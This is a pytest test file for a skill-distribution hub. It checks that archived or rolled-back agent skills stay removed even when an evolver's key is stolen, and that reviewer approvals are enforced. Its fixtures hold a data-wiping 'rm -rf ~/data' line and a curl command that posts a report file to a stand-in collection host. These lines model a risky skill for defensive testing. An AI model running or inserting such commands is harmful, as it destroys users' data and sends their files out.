"""What people took away: machines install it again once people want it, whatever is current in the log."""

from __future__ import annotations

import shutil
from collections.abc import Callable
from pathlib import Path

import pytest
from hubs_at_hand import Hubs, bundle

from skillclaw.errors import BadInputError, UsageError
from skillclaw.hub import inbox, keys
from skillclaw.hub.taken import taken
from skillclaw.server.groups.membership import judging
from skillclaw.server.review import decisions
from skillclaw.server.review.reviewing import needs
from skillclaw.server.skills.edits import propose_version
from skillclaw.skills.bundle import version
from skillclaw.skills.records import Action, Bundle, File, Proposal, Retired, Verdict

SCRIPT = File(path="scripts/run.sh", data=b"#!/bin/sh\nls\n", executable=True)
TEXT = "- Clean up: `rm -rf ~/data`\n- Run it."
ALL = bundle("all", "- Do it.")


@pytest.fixture
def hubs(tmp_path: Path) -> Hubs:
    hubs = Hubs(tmp_path)
    hubs.team.commit("settings", {"policy": "team"}, role="owner")
    hubs.admit()
    key = Path(hubs.team.info.group) / "owner.key"
    shutil.copy(hubs.team.keys_folder / key, hubs.machine.home / "keys" / key)
    return hubs


def merge(hubs: Hubs, text: str, id_: str) -> str:
    """A canary of `all` that takes `deploy` in, as an evolver alone makes it; its version."""
    skills = hubs.team.state().skills
    base, gone = skills["all"].current, skills["deploy"].current
    assert gone is not None
    one = bundle("all", text)
    retires = [Retired(skill="deploy", version=gone)]
    given = Proposal(
        id=id_, action="merge", skill="all", base=base, engine="x", why="", bundle=one, retires=retires
    )
    hubs.team.propose(given)
    hubs.team.record_verdicts(id_, [Verdict(check="spec", verdict="pass", reason="Fine.")], "passed")
    hubs.team.release(id_, stage="canary", role="evolver")
    return version(one)


def archived_and_undone(hubs: Hubs) -> tuple[str, str]:
    """`deploy` with a program and a risky line, which people approved and then archived; the stolen key of an
    evolver made it current again by undoing a merge. Its first version and its newest."""
    hubs.evolve(hubs.team, ALL)
    first = hubs.evolve(hubs.team, bundle("deploy", TEXT, SCRIPT), approve=True)
    made = hubs.evolve(hubs.team, bundle("deploy", TEXT + "\n- Look.", SCRIPT))
    merge(hubs, "- Do it and run it.", "merge")
    hubs.sync()
    assert hubs.text("deploy") == "- Look."
    hubs.team.archive("deploy", "It wipes disks.", role="owner")
    hubs.sync()
    undo(hubs)
    assert hubs.team.state().skills["deploy"].current == made
    return first, made


def undo(hubs: Hubs) -> None:
    skill = hubs.team.state().skills["all"]
    body = {"skill": "all", "version": version(ALL), "base": skill.current}
    hubs.team.commit("rollback", body, role="evolver")


def promoted(hubs: Hubs, first: str, made: str) -> None:
    body = {"skill": "deploy", "version": made, "base": made, "stage": "unproven"}
    hubs.team.commit("promote", body, role="evolver")


def gone_back(hubs: Hubs, first: str, made: str) -> None:
    hubs.team.commit("rollback", {"skill": "deploy", "version": first, "base": made}, role="evolver")


def refined(hubs: Hubs, first: str, made: str) -> None:
    hubs.evolve(hubs.team, bundle("deploy", TEXT + "\n- More.", SCRIPT))


def refined_twice(hubs: Hubs, first: str, made: str) -> None:
    refined(hubs, first, made)
    hubs.evolve(hubs.team, bundle("deploy", TEXT + "\n- Still more.", SCRIPT))


def merged_again(hubs: Hubs, first: str, made: str) -> None:
    merge(hubs, "- Do it twice.", "again")
    hubs.team.promote("all")
    undo(hubs)
    assert hubs.team.state().skills["deploy"].current == made


WAYS = [promoted, gone_back, refined, refined_twice, merged_again]


@pytest.mark.parametrize("way", WAYS)
@pytest.mark.parametrize("people", [1, 2])
def test_nothing_that_a_stolen_evolvers_key_does_next_brings_it_back(
    way: Callable[[Hubs, str, str], None], people: int, hubs: Hubs
) -> None:
    first, made = archived_and_undone(hubs)
    hubs.team.commit("settings", {"reviewers": people}, role="owner")
    way(hubs, first, made)
    hubs.sync(hubs.fresh())
    assert not (hubs.skills / "deploy").exists()


def test_a_machine_that_did_not_look_in_between_loses_it_too(hubs: Hubs) -> None:
    hubs.evolve(hubs.team, ALL)
    made = hubs.evolve(hubs.team, bundle("deploy", TEXT, SCRIPT), approve=True)
    merge(hubs, "- Do it and run it.", "merge")
    hubs.sync()
    assert hubs.text("deploy") == "- Run it."
    hubs.team.archive("deploy", "It wipes disks.", role="owner")
    undo(hubs)
    assert hubs.team.state().skills["deploy"].current == made
    hubs.sync(hubs.fresh())
    assert not (hubs.skills / "deploy").exists()


def test_nor_does_it_keep_what_an_evolver_released_again(hubs: Hubs) -> None:
    made = hubs.evolve(hubs.team, bundle("deploy", TEXT, SCRIPT), approve=True)
    hubs.sync()
    hubs.team.archive("deploy", "It wipes disks.", role="owner")
    propose(hubs, bundle("deploy", TEXT, SCRIPT), "again")
    assert hubs.team.state().skills["deploy"].current == made
    hubs.sync(hubs.fresh())
    assert not (hubs.skills / "deploy").exists()


def propose(hubs: Hubs, one: Bundle, id_: str) -> str:
    """A canary, as an evolver alone makes it; its version."""
    base = hubs.team.state().skills[one.name].current
    action: Action = "refine" if base else "create"
    given = Proposal(id=id_, action=action, skill=one.name, base=base, engine="x", why="", bundle=one)
    hubs.team.propose(given)
    hubs.team.record_verdicts(id_, [Verdict(check="spec", verdict="pass", reason="Fine.")], "passed")
    hubs.team.release(id_, stage="canary", role="evolver")
    return version(one)


def back(hubs: Hubs, to: str) -> None:
    body = {"skill": "deploy", "version": to, "base": hubs.team.state().skills["deploy"].current}
    hubs.team.commit("rollback", body, role="evolver")


@pytest.mark.parametrize("people", [1, 2])
def test_an_evolver_does_not_choose_what_a_person_goes_back_to(people: int, hubs: Hubs) -> None:
    """It puts the good version on top of the bad one first, as if it had been made from that."""
    good = hubs.evolve(hubs.team, bundle("deploy", "- Look."))
    bad = hubs.evolve(hubs.team, bundle("deploy", TEXT, SCRIPT), approve=True)
    propose(hubs, bundle("deploy", "- Look."), "again")
    back(hubs, bad)
    hubs.team.commit("settings", {"reviewers": people}, role="owner")
    hubs.sync()
    assert hubs.text("deploy") == "- Run it."
    decisions.rollback(hubs.machine, "team/deploy", good)
    hubs.sync(hubs.fresh())
    assert hubs.text("deploy") in (None, "- Look.")
    back(hubs, bad)
    hubs.sync(hubs.fresh())
    assert hubs.text("deploy") in (None, "- Look.")


def test_who_brings_one_version_back_brings_back_nothing_below_it(hubs: Hubs) -> None:
    _, made = archived_and_undone(hubs)
    clean = propose(hubs, bundle("deploy", "- Look around."), "clean")
    hubs.team.commit("promote", {"skill": "deploy", "version": clean, "base": clean}, role="evolver")
    propose(hubs, bundle("deploy", "- Nonsense."), "junk")
    decisions.rollback(hubs.machine, "team/deploy", clean)
    hubs.sync(hubs.fresh())
    assert hubs.text("deploy") == "- Look around."
    back(hubs, made)
    hubs.sync(hubs.fresh())
    assert not (hubs.skills / "deploy").exists()


def test_a_version_that_people_went_back_from_and_that_comes_again_takes_nothing_from_machines(
    hubs: Hubs,
) -> None:
    good = hubs.evolve(hubs.team, bundle("deploy", "- Look."))
    hubs.evolve(hubs.team, bundle("deploy", "- Look twice."))
    decisions.rollback(hubs.machine, "team/deploy", good)
    propose(hubs, bundle("deploy", "- Look twice."), "again")
    hubs.team.promote("deploy")
    hubs.sync(hubs.fresh())
    assert hubs.text("deploy") == "- Look."


def test_a_person_brings_it_back_and_then_what_it_was_made_from(hubs: Hubs) -> None:
    first, made = archived_and_undone(hubs)
    decisions.rollback(hubs.machine, "team/deploy", made)
    hubs.sync()
    assert hubs.text("deploy") == "- Look."
    with pytest.raises(UsageError, match="at that version already"):
        decisions.rollback(hubs.machine, "team/deploy", made)
    released = hubs.team.state().skills["deploy"].release(made)
    assert released is not None
    hubs.evolve(hubs.team, bundle("deploy", TEXT + "\n- More.", SCRIPT))
    hubs.sync()
    assert hubs.text("deploy") == "- More."
    decisions.rollback(hubs.machine, "team/deploy", first)
    hubs.sync()
    assert hubs.text("deploy") == "- Run it."


def reviewer(hubs: Hubs) -> str:
    key = keys.load_or_create(hubs.team.keys_folder, hubs.team.info.group, "reviewer")
    public = keys.public_hex(key)
    hubs.team.commit("key-add", {"public": public, "role": "reviewer", "name": "rae"}, role="owner")
    return public


def brought_back(hubs: Hubs, made: str, role: str = "reviewer") -> None:
    release = hubs.team.state().skills["deploy"].release(made)
    assert release is not None
    body = {"skill": "deploy", "version": made, "base": None, "object": release.object, "stage": "stable"}
    hubs.team.commit("release", body, role=role)


def test_who_brought_it_back_with_a_key_that_was_revoked_since_did_not(hubs: Hubs) -> None:
    made = hubs.evolve(hubs.team, bundle("deploy", TEXT, SCRIPT), approve=True)
    public = reviewer(hubs)
    hubs.team.archive("deploy", role="owner")
    brought_back(hubs, made)
    hubs.sync()
    assert hubs.text("deploy") == "- Run it."
    hubs.team.commit("key-revoke", {"public": public}, role="owner")
    hubs.sync(hubs.fresh())
    assert hubs.text("deploy") is None
    hubs.team.archive("deploy", role="owner")
    brought_back(hubs, made, "owner")
    hubs.sync(hubs.fresh())
    assert hubs.text("deploy") == "- Run it."


def test_a_person_who_undoes_a_merge_does_not_bring_back_what_another_archived(hubs: Hubs) -> None:
    hubs.evolve(hubs.team, ALL)
    hubs.evolve(hubs.team, bundle("deploy", TEXT, SCRIPT), approve=True)
    merge(hubs, "- Do it and run it.", "merge")
    hubs.team.archive("deploy", role="owner")
    decisions.rollback(hubs.machine, "team/all", None)
    assert hubs.team.state().skills["deploy"].current is None


def test_an_evolver_that_undoes_its_merge_names_only_what_the_merge_archived(hubs: Hubs) -> None:
    hubs.evolve(hubs.team, ALL)
    hubs.evolve(hubs.team, bundle("deploy", TEXT, SCRIPT), approve=True)
    made = merge(hubs, "- Do it and run it.", "merge")
    hubs.team.archive("deploy", role="owner")
    hubs.team.rollback("all", version(ALL), base=made, role="evolver")
    assert hubs.team.state().skills["deploy"].current is None


def test_a_retirement_that_people_approved_is_their_word(hubs: Hubs) -> None:
    made = hubs.evolve(hubs.team, bundle("deploy", TEXT, SCRIPT), approve=True)
    for id_, approve in (("mine", False), ("ours", True)):
        hubs.team.propose(Proposal(id=id_, action="retire", skill="deploy", base=made, engine="x", why=""))
        hubs.team.record_verdicts(id_, [Verdict(check="spec", verdict="pass", reason="Fine.")], "passed")
        if approve:
            hubs.team.approve(id_)
        hubs.team.release(id_, role="evolver")
        release = hubs.team.state().skills["deploy"].release(made)
        assert release is not None
        assert taken(hubs.team.state(), release) == approve
        brought_back(hubs, made, "owner")


def named_by_a_merge(hubs: Hubs) -> str:
    """`deploy` with a program, which people approved and a merge canary takes in; its version."""
    hubs.evolve(hubs.team, ALL)
    made = hubs.evolve(hubs.team, bundle("deploy", TEXT, SCRIPT), approve=True)
    merge(hubs, "- Do it and run it.", "merge")
    return made


def archive_as_evolver(hubs: Hubs, base: str) -> None:
    hubs.team.commit("archive", {"skill": "deploy", "base": base}, role="evolver")


def gone_for_good(hubs: Hubs) -> None:
    """What an evolver brings back by undoing the merge is there for no machine."""
    undo(hubs)
    assert hubs.team.state().skills["deploy"].current is not None
    hubs.sync(hubs.fresh())
    assert hubs.text("deploy") is None


def test_people_archive_what_an_evolver_archived_a_moment_before(hubs: Hubs) -> None:
    made = named_by_a_merge(hubs)
    archive_as_evolver(hubs, made)
    hubs.team.archive("deploy", "It wipes disks.", base=made, role="owner")
    story = hubs.team.state().skills["deploy"].releases[-1].story
    assert [(one.what, one.why) for one in story[-2:]] == [("archive", ""), ("archive", "It wipes disks.")]
    gone_for_good(hubs)


def test_people_archive_what_an_evolver_archived_long_ago_and_once(hubs: Hubs) -> None:
    made = named_by_a_merge(hubs)
    archive_as_evolver(hubs, made)
    assert decisions.archive(hubs.machine, "team/deploy") == made
    with pytest.raises(BadInputError, match="no current version"):
        decisions.archive(hubs.machine, "team/deploy")
    gone_for_good(hubs)


@pytest.mark.parametrize("moment", ["before the approval", "after it"])
def test_people_agree_to_retire_what_an_evolver_archived_a_moment_before(moment: str, hubs: Hubs) -> None:
    made = named_by_a_merge(hubs)
    retire = Proposal(id="r", action="retire", skill="deploy", base=made, engine="x", why="")
    hubs.team.propose(retire)
    hubs.team.record_verdicts("r", [Verdict(check="spec", verdict="hold", reason="Hm.")], "held")
    if moment == "before the approval":
        archive_as_evolver(hubs, made)
        state = hubs.team.state()
        told = needs(state, state.proposals["r"], "team")
        assert told == "deploy is archived already; who approves this says that it stays so."
        assert decisions.approve(hubs.machine, "r").release is not None
    else:
        hubs.team.approve("r")
        archive_as_evolver(hubs, made)
        hubs.team.release("r", role="evolver")
    assert hubs.team.state().proposals["r"].status == "released"
    gone_for_good(hubs)


def test_people_go_back_where_an_evolver_went_before(hubs: Hubs) -> None:
    good = hubs.evolve(hubs.team, bundle("deploy", "- Look."))
    hubs.evolve(hubs.team, ALL)
    bad = hubs.evolve(hubs.team, bundle("deploy", TEXT, SCRIPT), approve=True)
    merge(hubs, "- Do it and run it.", "merge")
    hubs.sync()
    hubs.team.commit("rollback", {"skill": "deploy", "version": good, "base": bad}, role="evolver")
    assert decisions.rollback(hubs.machine, "team/deploy", good[:12]) == good
    with pytest.raises(UsageError, match="at that version already"):
        decisions.rollback(hubs.machine, "team/deploy", good)
    archive_as_evolver(hubs, good)
    undo(hubs)
    assert hubs.team.state().skills["deploy"].current == bad
    hubs.sync(hubs.fresh())
    assert hubs.text("deploy") == "- Look."


@pytest.mark.parametrize("kind", ["archive", "rollback"])
def test_an_evolver_says_of_no_skill_that_it_stays(kind: str, hubs: Hubs) -> None:
    good = hubs.evolve(hubs.team, bundle("deploy", "- Look."))
    bad = hubs.evolve(hubs.team, bundle("deploy", "- Look twice."))
    if kind == "archive":
        archive_as_evolver(hubs, bad)
    else:
        hubs.team.commit("rollback", {"skill": "deploy", "version": good, "base": bad}, role="evolver")
    body = {"skill": "deploy", "base": bad, "stays": True}
    body |= {"version": good} if kind == "rollback" else {}
    with pytest.raises(BadInputError, match="only people say that a skill stays"):
        hubs.team.commit(kind, body, role="evolver")
    wrong = {"base": "0" * 64, **({"version": bad} if kind == "rollback" else {})}
    for part in wrong.items():
        with pytest.raises(BadInputError, match=r"never released|another version is current"):
            hubs.team.commit(kind, {**body, part[0]: part[1]}, role="owner")
    hubs.team.commit(kind, body, role="owner")
    assert taken(hubs.team.state(), hubs.team.state().skills["deploy"].releases[-1])


def test_a_machine_loses_what_people_took_away_though_what_comes_instead_is_refused(hubs: Hubs) -> None:
    good = hubs.evolve(hubs.team, bundle("deploy", "- Look."))
    bad = hubs.evolve(hubs.team, bundle("deploy", TEXT, SCRIPT), approve=True)
    hubs.sync()
    hubs.team.rollback("deploy", good, base=bad, role="owner")
    propose(hubs, bundle("deploy", "- Look.", SCRIPT), "more")
    hubs.team.promote("deploy")
    report = hubs.sync(hubs.fresh())
    told = {(one.action, one.detail) for one in report.changes if one.skill == "deploy"}
    assert ("removed", "people of the group took it away.") in told
    assert any("nobody approved it" in detail for action, detail in told if action == "failed")
    assert hubs.text("deploy") is None


def test_where_two_decide_one_goes_back_but_not_forward_again(hubs: Hubs) -> None:
    first = hubs.evolve(hubs.team, bundle("deploy", "- Run it."))
    made = hubs.evolve(hubs.team, bundle("deploy", "- Run it twice."))
    hubs.team.commit("settings", {"reviewers": 2}, role="owner")
    decisions.rollback(hubs.machine, "team/deploy", first)
    hubs.sync()
    assert hubs.text("deploy") == "- Run it."
    with pytest.raises(UsageError, match="People took version") as told:
        decisions.rollback(hubs.machine, "team/deploy", made)
    assert f"skillclaw skills propose team/deploy --version {made[:12]}" in told.value.todo
    # past the command, with a stolen key: the log takes it, machines keep what they have
    hubs.team.commit("rollback", {"skill": "deploy", "version": made, "base": first}, role="owner")
    assert hubs.sync(hubs.fresh()).changes == []
    assert hubs.text("deploy") == "- Run it."


def test_two_bring_back_what_was_taken_away_by_a_proposal(hubs: Hubs) -> None:
    made = hubs.evolve(hubs.team, bundle("deploy", TEXT, SCRIPT), approve=True)
    public = reviewer(hubs)
    hubs.team.commit("settings", {"reviewers": 2}, role="owner")
    hubs.team.archive("deploy", role="owner")
    with pytest.raises(UsageError, match="People took version"):
        decisions.rollback(hubs.machine, "team/deploy", made)
    done = propose_version(hubs.machine, "team/deploy", made[:12])
    assert (done.status, done.version) == ("sent", made)
    report = inbox.take_in(hubs.team, judging(hubs.team))
    assert (report.taken, report.refused) == ({"proposal": 1}, [])
    hubs.team.commit("approval", {"proposal": done.proposal}, role="owner")
    hubs.team.commit("approval", {"proposal": done.proposal}, role="reviewer")
    hubs.team.release(done.proposal, role="owner")
    hubs.sync()
    assert hubs.text("deploy") == "- Run it."
    assert (hubs.skills / "deploy" / "scripts" / "run.sh").exists()
    assert public in hubs.team.state().proposals[done.proposal].approvals


def test_a_proposal_that_was_turned_down_can_be_made_again(hubs: Hubs) -> None:
    made = hubs.evolve(hubs.team, bundle("deploy", TEXT, SCRIPT), approve=True)
    hubs.team.archive("deploy", role="owner")
    found = []
    for _ in range(2):
        done = propose_version(hubs.machine, "team/deploy", made)
        inbox.take_in(hubs.team, judging(hubs.team))
        found.append(hubs.team.state().proposals[done.proposal].status)
        hubs.team.reject(done.proposal, "Not now.")
    assert found == ["held", "held"]


def test_one_stolen_key_of_two_brings_back_nothing_that_only_one_approved(hubs: Hubs) -> None:
    """Neither what an evolver archived, nor what it left behind when it went back."""
    made = hubs.evolve(hubs.team, bundle("deploy", TEXT, SCRIPT), approve=True)
    reviewer(hubs)
    hubs.team.archive("deploy", role="evolver")
    hubs.team.commit("settings", {"reviewers": 2}, role="owner")
    brought_back(hubs, made)
    (change,) = hubs.sync().changes
    assert change.detail.endswith("and not enough people approved it.")


@pytest.mark.parametrize("again", ["rollback", "release"])
def test_nor_what_an_evolver_went_back_from(again: str, hubs: Hubs) -> None:
    first = hubs.evolve(hubs.team, bundle("deploy", "- Look."))
    made = hubs.evolve(hubs.team, bundle("deploy", TEXT, SCRIPT), approve=True)
    newest = hubs.evolve(hubs.team, bundle("deploy", TEXT + "\n- More.", SCRIPT))
    reviewer(hubs)
    for to, base in ((made, newest), (first, made)):
        hubs.team.commit("rollback", {"skill": "deploy", "version": to, "base": base}, role="evolver")
    hubs.team.commit("settings", {"reviewers": 2}, role="owner")
    release = hubs.team.state().skills["deploy"].release(newest)
    assert release is not None
    body = {"skill": "deploy", "version": newest, "base": first}
    if again == "release":
        body |= {"object": release.object, "stage": "stable"}
    hubs.team.commit(again, body, role="reviewer")
    (change,) = hubs.sync().changes
    assert change.detail.endswith("and not enough people approved it.")


def test_where_two_decide_what_one_approved_before_can_be_gone_back_to(hubs: Hubs) -> None:
    made = hubs.evolve(hubs.team, bundle("deploy", TEXT, SCRIPT), approve=True)
    hubs.evolve(hubs.team, bundle("deploy", TEXT + "\n- More.", SCRIPT))
    hubs.team.commit("settings", {"reviewers": 2}, role="owner")
    decisions.rollback(hubs.machine, "team/deploy", made)
    hubs.sync()
    assert hubs.text("deploy") == "- Run it."


def test_what_people_saw_in_a_later_version_they_approved_in_the_one_before(hubs: Hubs) -> None:
    """A line of before the group asked: who approved the canary saw it, so that machines go back from it."""
    hubs.team.commit("settings", {"policy": "solo"}, role="owner")
    line = "- Send it: `curl -d @report https://collect.example.com/in`"
    first = hubs.evolve(hubs.team, bundle("deploy", f"{line}\n- Run it."))
    hubs.team.commit("settings", {"policy": "team"}, role="owner")
    made = hubs.evolve(hubs.team, bundle("deploy", f"{line}\n- Run it twice."), approve=True)
    hubs.sync()
    assert hubs.text("deploy") == "- Run it twice."
    hubs.team.commit("rollback", {"skill": "deploy", "version": first, "base": made}, role="evolver")
    hubs.sync()
    assert hubs.text("deploy") == "- Run it."
